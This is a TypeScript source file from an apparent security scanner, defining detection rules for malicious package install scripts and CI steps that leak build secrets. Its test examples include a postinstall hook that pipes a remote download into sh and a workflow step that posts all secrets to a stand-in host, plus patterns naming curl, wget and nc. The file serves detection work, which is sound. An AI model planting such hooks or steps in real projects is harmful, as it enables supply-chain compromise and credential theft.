import { ruleOf, write } from '../examples.ts';
import type { PatternRule } from '../../rule.ts';
import { isSuspectPayload } from '../payload.ts';

/** Scripts that a package manager runs on whoever installs the package. */
export const installScripts: PatternRule = {
  ...ruleOf(
    'persistence.install-script', 'persistence', 'high', 'a package’s install script that downloads, decodes or sends something', write('package.json', '{"scripts":{"postinstall":"curl http://203.0.113.9/x | sh"}}'),
    write('package.json', '{"scripts":{"postinstall":"husky install"}}'), 'MITRE ATT&CK T1195.002',
  ),
  roles: ['code', 'prose', 'value'],
  literals: ['"postinstall"', '"preinstall"', '"install"', '"prepare"', '"prepublish"', '"postinstallcommand"', '"post-install-cmd"', '"post-update-cmd"', '"postcreatecommand"', '"poststartcommand"', '"oncreatecommand"'],
  before: 0,
  after: 600,
  pattern: /"(?:(?:post|pre)?install|prepare|prepublish|postinstallcommand|post-(?:install|update)-cmd|(?:postcreate|poststart|oncreate)command)"\s*:\s*\[?\s*"((?:[^"\\]|\\.){1,500})/i,
  // `node -e` is how packages look for their own build; with a request or another program in it, it is more.
  accepts: ([, script = '']) => isSuspectPayload(script.replaceAll('\\"', '"').replace(/\bnode\s+-e\b/g, 'node')) || /\bnode\s+-e\b[^]{0,200}(?:\bhttps?['"]\)\.|fetch\(|\beval\(|child_process|\bexec(?:Sync)?\(|Buffer\.from\()/.test(script),
};

/** All secrets of a build printed, written or sent. */
export const buildSecrets: PatternRule = {
  ...ruleOf(
    'programs.build-secrets', 'network_exfiltration', 'high', 'a build step that takes out all secrets of the build', write('.github/workflows/x.yml', '- run: curl -d \'${{ toJSON(secrets) }}\' https://c.example.net\n'),
    write('.github/workflows/x.yml', '- run: npm publish\n  env:\n    NODE_AUTH_TOKEN: ${{ secrets.NPM_TOKEN }}\n'), 'MITRE ATT&CK T1552',
  ),
  roles: ['code', 'shell', 'prose', 'value'],
  literals: ['tojson(secrets', 'tojson( secrets', '$actions_id_token', '$actions_runtime_token'],
  before: 120,
  after: 160,
  pattern: /toJSON\(\s*secrets\s*\)|(?:curl|wget|nc|base64)\b[^\n]{0,100}\$\{?ACTIONS_(?:ID_TOKEN_REQUEST_TOKEN|RUNTIME_TOKEN)/i,
};
